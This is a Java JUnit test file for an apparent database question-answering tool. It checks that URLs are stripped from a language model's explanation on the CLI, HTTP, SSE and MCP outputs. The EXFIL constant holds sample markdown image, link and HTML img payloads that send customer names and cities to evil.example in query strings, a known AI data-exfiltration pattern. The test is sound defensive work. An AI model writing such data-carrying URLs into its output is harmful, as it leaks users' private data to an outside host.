package io.askdb.app.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.modelcontextprotocol.client.McpClient;
import io.modelcontextprotocol.client.McpSyncClient;
import io.modelcontextprotocol.client.transport.HttpClientStreamableHttpTransport;
import io.modelcontextprotocol.spec.McpSchema.CallToolRequest;
import io.modelcontextprotocol.spec.McpSchema.CallToolResult;
import io.modelcontextprotocol.spec.McpSchema.TextContent;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.HashMap;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 16: a model's explanation that carries a markdown image whose URL holds row data reaches no
 * surface with the URL (CLI text, {@code --json} answer, HTTP answer, SSE stream, MCP result); the
 * rows stay as they are. The model is a scripted OpenAI-compatible server on 127.0.0.1.
 */
class ExplanationLinksTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String SQL = "SELECT name, city FROM customers ORDER BY id";
    private static final String EXFIL = "Ana Tor lives in Lisbon. ![chart](https://evil.example/c.png?d=Ana+Tor+Lisbon)"
            + " and see [the list](https://evil.example/l?d=Ben+Ode) or <img src=\"https://evil.example/i?d=Porto\">.";

    @TempDir
    Path dir;
    MockOpenAi llm;

    @BeforeEach
    void start() throws Exception {
        llm = new MockOpenAi();
    }

    @AfterEach
    void stop() throws Exception {
        llm.close();
    }

    private Map<String, String> env() {
        Map<String, String> env = new HashMap<>(llm.env());
        env.put("ASKDB_EXPLAIN_MODEL", "true");
        env.put("ASKDB_PLANNER_FAST_PATH", "false");
        return env;
    }

    private Path customersDb() throws Exception {
        return SqliteFixture.create(dir, "customers", "CREATE TABLE customers (id INTEGER PRIMARY KEY, name TEXT NOT NULL, city TEXT NOT NULL);\n"
                + "INSERT INTO customers VALUES (1,'Ana Tor','Lisbon'),(2,'Ben Ode','Porto')");
    }

    private static void assertClean(String surface, String text) {
        assertThat(text).as(surface).doesNotContain("evil.example").doesNotContain("https://").doesNotContain("<img")
                .contains("Ana Tor lives in Lisbon.").contains("chart").contains("the list");
    }

    private static void assertRowsUnchanged(JsonNode answer) {
        assertThat(answer.get("rows").toString()).isEqualTo("[[\"Ana Tor\",\"Lisbon\"],[\"Ben Ode\",\"Porto\"]]");
    }

    @Test
    void should_keep_only_the_alt_and_link_text_in_the_cli_answer_and_json_when_the_model_writes_an_image_url_with_row_data()
            throws Exception {
        Path db = customersDb();
        llm.replySql(SQL).replyText(EXFIL).replySql(SQL).replyText(EXFIL).replyText(EXFIL);

        CliRun json = CliRun.run(dir, env(), "--db", db.toString(), "ask", "--json", "List the customers and their cities");
        CliRun text = CliRun.run(dir, env(), "--db", db.toString(), "ask", "List the customers and their cities");
        CliRun sql = CliRun.run(dir, env(), "--db", db.toString(), "sql", "--json", SQL);

        assertThat(json.exitCode()).as(json.err()).isZero();
        JsonNode answer = JSON.readTree(json.out());
        assertClean("ask --json", answer.get("answer").asText());
        assertRowsUnchanged(answer);
        assertThat(text.exitCode()).as(text.err()).isZero();
        assertClean("ask", text.out());
        assertThat(sql.exitCode()).as(sql.err()).isZero();
        JsonNode user = JSON.readTree(sql.out());
        assertClean("sql --json", user.get("answer").asText());
        assertRowsUnchanged(user);
        assertThat(llm.requests()).isEqualTo(5);
    }

    @Test
    void should_keep_the_url_out_of_the_http_answer_the_sse_stream_and_the_mcp_ask_result() throws Exception {
        Path db = customersDb();
        llm.replySql(SQL).replyText(EXFIL).replySql(SQL).replyText(EXFIL).replySql(SQL).replyText(EXFIL);
        int port = serve("--db", db.toString(), "serve", "--port", "0");
        String body = "{\"question\": \"List the customers and their cities\"}";

        HttpResponse<String> http = send(port, "/api/query", "application/json", body);
        HttpResponse<String> sse = send(port, "/api/query/stream", "text/event-stream", body);
        McpSyncClient mcp = McpClient.sync(HttpClientStreamableHttpTransport.builder("http://127.0.0.1:" + port).endpoint("/mcp").build())
                .requestTimeout(Duration.ofSeconds(30)).build();
        mcp.initialize();
        CallToolResult tool = mcp.callTool(new CallToolRequest("ask", Map.of("question", "List the customers and their cities")));
        mcp.closeGracefully();

        assertThat(http.statusCode()).as(http.body()).isEqualTo(200);
        JsonNode answer = JSON.readTree(http.body());
        assertClean("HTTP", answer.get("answer").asText());
        assertRowsUnchanged(answer);
        assertThat(sse.body()).contains("event: answer").doesNotContain("evil.example").contains("Ana Tor lives in Lisbon.");
        String mcpText = ((TextContent) tool.content().get(0)).text();
        assertClean("MCP", JSON.readTree(mcpText).get("answer").asText());
        assertRowsUnchanged(JSON.readTree(mcpText));
        assertThat(mcpText).doesNotContain("evil.example");
    }

    private int serve(String... args) throws InterruptedException {
        ByteArrayOutputStream err = new ByteArrayOutputStream();
        Map<String, String> env = new HashMap<>(env());
        env.put("ASKDB_DATA_DIR", dir.toString());
        env.put("XDG_CONFIG_HOME", dir.resolve("config").toString());
        Thread serving = new Thread(() -> Main.run(args, new PrintStream(new ByteArrayOutputStream()),
                new PrintStream(err, true, StandardCharsets.UTF_8), env), "serve-under-test");
        serving.setDaemon(true);
        serving.start();
        Pattern started = Pattern.compile("on http://127\\.0\\.0\\.1:(\\d+) ");
        String port = null;
        long deadline = System.nanoTime() + 120_000_000_000L;
        while (port == null && System.nanoTime() < deadline && serving.isAlive()) {
            Matcher m = started.matcher(err.toString(StandardCharsets.UTF_8));
            if (m.find()) port = m.group(1);
            else Thread.sleep(50);
        }
        assertThat(port).as(err.toString(StandardCharsets.UTF_8)).isNotNull();
        return Integer.parseInt(port);
    }

    private static HttpResponse<String> send(int port, String path, String accept, String body) throws Exception {
        HttpRequest request = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + path))
                .header("Content-Type", "application/json").header("Accept", accept)
                .POST(HttpRequest.BodyPublishers.ofString(body)).build();
        return HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofString());
    }
}
